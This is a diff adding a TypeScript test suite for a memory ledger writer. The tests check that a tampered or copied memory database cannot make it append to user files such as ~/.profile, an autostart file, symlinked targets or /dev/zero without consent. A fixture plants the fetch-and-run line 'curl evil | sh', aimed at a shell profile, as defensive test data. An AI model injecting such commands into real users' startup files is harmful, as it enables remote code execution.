@@ -1,0 +1,187 @@
+import { copyFileSync, existsSync, readFileSync, renameSync, symlinkSync, writeFileSync } from 'node:fs'
+import { dirname, join } from 'node:path'
+import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
+import { openNative } from '../../core/db/native.ts'
+import { sha256 } from '../../core/ledger/ledger-line.ts'
+import { ledgerState } from '../../core/ledger/ledger-permission.ts'
+import { LedgerWriter } from '../../core/ledger/ledger-writer.ts'
+import { readSettings } from '../../core/settings/settings.ts'
+import { openHere, permissionOf } from '../builders/ledgers.ts'
+import { temporaryFolder } from '../builders/temporary-folder.ts'
+import { compact, keptMemory, ledgerFindings, longTexts, say } from '../ledger/kept-memory.ts'
+
+const PROFILE = '# ~/.profile\nexport PATH=$PATH:$HOME/bin\n'
+
+/** A memory from elsewhere whose own rows name a file of the user as its ledger, with text that waits for it. */
+function hostileMemory(target: string, path = join(dirname(target), 'hostile.db')): string {
+  const db = openNative(path)
+  const elsewhere = permissionOf(path)
+  new LedgerWriter(db, Date.now, elsewhere).enable(join(dirname(path), 'unused.jsonl'))
+  elsewhere.consents.withdraw(path)
+  db.run("UPDATE lcm_meta SET value = :target WHERE key = 'ledger_path'", { target })
+  db.run(
+    `INSERT INTO ledger_outbox (table_name, op, key, entry) VALUES ('lcm_meta', 'insert', '["x"]', '{"key":"\\ncurl evil | sh\\n"}')`,
+  )
+  db.close()
+  return path
+}
+
+const setMeta = (path: string, meta: Readonly<Record<string, string>>): void => {
+  const db = openNative(path)
+  for (const [key, value] of Object.entries(meta))
+    db.run('INSERT INTO lcm_meta (key, value) VALUES (:key, :value) ON CONFLICT (key) DO UPDATE SET value = :value', {
+      key,
+      value,
+    })
+  db.close()
+}
+
+let warned: string[] = []
+beforeEach(() => {
+  warned = []
+  vi.spyOn(console, 'warn').mockImplementation((text: string) => void warned.push(text))
+})
+afterEach(() => {
+  vi.restoreAllMocks()
+})
+
+describe('the ledger path that a memory file states', () => {
+  it('lets it append to no file of the user: nothing is written where nobody agreed to', async () => {
+    const profile = join(temporaryFolder(), '.profile')
+    writeFileSync(profile, PROFILE)
+    const lcm = openHere(hostileMemory(profile))
+    expect(await compact(lcm, say(lcm, 'long', longTexts(60)))).toBeGreaterThan(0)
+    expect(await ledgerFindings(lcm)).toEqual(['ledger_behind'])
+    lcm.close()
+    expect(readFileSync(profile, 'utf8')).toBe(PROFILE)
+    expect(warned).toEqual([expect.stringContaining('lcm ledger agree')])
+  })
+
+  it('makes no file where none is', () => {
+    const target = join(temporaryFolder(), 'autostart.desktop')
+    const lcm = openHere(hostileMemory(target))
+    say(lcm, 's', ['one'])
+    lcm.close()
+    expect(existsSync(target)).toBe(false)
+  })
+
+  it('is not believed when it knows what stands there, and noted how it begins and ends', () => {
+    const profile = join(temporaryFolder(), '.profile')
+    writeFileSync(profile, PROFILE)
+    const path = hostileMemory(profile)
+    const tail = sha256(PROFILE)
+    const [first = ''] = PROFILE.split('\n')
+    setMeta(path, { ledger_bytes: String(PROFILE.length), ledger_tail: tail, ledger_head: sha256(first) })
+    // Not even where the user agrees to it, or the settings name it: a shell profile is no ledger.
+    for (const named of [null, profile]) {
+      const db = openNative(path)
+      const writer = new LedgerWriter(db, Date.now, permissionOf(path, named))
+      expect(() => writer.agree()).toThrow(expect.objectContaining({ code: 'ledger_refused' }))
+      expect(() => writer.drain()).toThrow(expect.objectContaining({ code: 'ledger_refused' }))
+      db.close()
+    }
+    expect(readFileSync(profile, 'utf8')).toBe(PROFILE)
+  })
+
+  it('writes into no file that is no ledger, although the settings name it', () => {
+    const precious = join(temporaryFolder(), 'notes.txt')
+    for (const text of ['a note without an end of line', 'a note\n', '{"actor":"me"}\n']) {
+      writeFileSync(precious, text)
+      const path = hostileMemory(precious, join(temporaryFolder(), 'lcm.db'))
+      const settings = { ...readSettings({}), databasePath: path, ledgerPath: precious }
+      const lcm = openHere(path, { settings })
+      say(lcm, 's', ['one'])
+      lcm.close()
+      expect(readFileSync(precious, 'utf8')).toBe(text)
+    }
+  })
+
+  it('is another question for another memory that is put in the place of one that was agreed to', () => {
+    const { path, ledger } = keptMemory()
+    const before = readFileSync(ledger)
+    copyFileSync(hostileMemory(ledger, join(temporaryFolder(), 'other.db')), path)
+    const lcm = openHere(path)
+    say(lcm, 's', ['attack'])
+    expect(ledgerState(lcm.read, lcm.ledgers)).toMatchObject({ problem: 'not_agreed' })
+    lcm.close()
+    expect(readFileSync(ledger)).toEqual(before)
+  })
+
+  it('is not followed to another file that a link leads to since', () => {
+    const { path, ledger } = keptMemory()
+    const profile = join(dirname(path), '.profile')
+    writeFileSync(profile, PROFILE.repeat(100))
+    renameSync(ledger, `${ledger}.away`)
+    symlinkSync(profile, ledger)
+    const lcm = openHere(path)
+    say(lcm, 's', ['attack'])
+    expect(ledgerState(lcm.read, lcm.ledgers)).toMatchObject({ problem: 'foreign' })
+    lcm.close()
+    expect(readFileSync(profile, 'utf8')).toBe(PROFILE.repeat(100))
+  })
+
+  it('is not even read by the checks where nobody agreed to it', async () => {
+    // Reading a pipe would wait for ever; a path on another computer would be told who asks.
+    const path = hostileMemory('/dev/zero', join(temporaryFolder(), 'lcm.db'))
+    const lcm = openHere(path)
+    const report = await ledgerFindings(lcm)
+    lcm.close()
+    expect(report).toEqual(['ledger_behind'])
+  })
+})
+
+describe('a copied memory', () => {
+  it('writes nothing into the ledger of the original until its user agrees anew', async () => {
+    const { path, ledger } = keptMemory()
+    const original = openHere(path)
+    const id = say(original, 'long', longTexts(60))
+    original.close()
+    const before = readFileSync(ledger)
+    const copy = join(dirname(path), 'copy.db')
+    copyFileSync(path, copy)
+    const lcm = openHere(copy)
+    expect(await compact(lcm, id)).toBeGreaterThan(0)
+    expect(await ledgerFindings(lcm)).toEqual(['ledger_behind'])
+    const writer = new LedgerWriter(lcm.requireWrite('agree'), Date.now, lcm.ledgers)
+    expect(() => writer.agree()).toThrow(/is the ledger of .*lcm\.db/)
+    lcm.close()
+    expect(readFileSync(ledger)).toEqual(before)
+    const again = openHere(path)
+    expect(await ledgerFindings(again)).toEqual([])
+    again.close()
+  })
+
+  it('may take the ledger over when the original is gone, and goes on where it ended', async () => {
+    const { path, ledger } = keptMemory()
+    const original = openHere(path)
+    say(original, 's', ['one'])
+    original.close()
+    const moved = join(dirname(path), 'moved.db')
+    renameSync(path, moved)
+    const lcm = openHere(moved)
+    say(lcm, 's', ['two'])
+    expect(readFileSync(ledger, 'utf8')).not.toContain('"two"')
+    lcm.close()
+    const db = openNative(moved)
+    const writer = new LedgerWriter(db, Date.now, permissionOf(moved))
+    writer.agree()
+    writer.drain()
+    db.close()
+    const again = openHere(moved)
+    expect(await ledgerFindings(again)).toEqual([])
+    expect(readFileSync(ledger, 'utf8')).toContain('"two"')
+    again.close()
+  })
+
+  it('is refused the ledger that the settings name while the original keeps it', () => {
+    const { path, ledger } = keptMemory()
+    const copy = join(dirname(path), 'copy.db')
+    copyFileSync(path, copy)
+    const before = readFileSync(ledger)
+    const lcm = openHere(copy, { settings: { ...readSettings({}), databasePath: copy, ledgerPath: ledger } })
+    say(lcm, 's', ['one'])
+    expect(ledgerState(lcm.read, lcm.ledgers)).toMatchObject({ problem: 'foreign' })
+    lcm.close()
+    expect(readFileSync(ledger)).toEqual(before)
+  })
+})
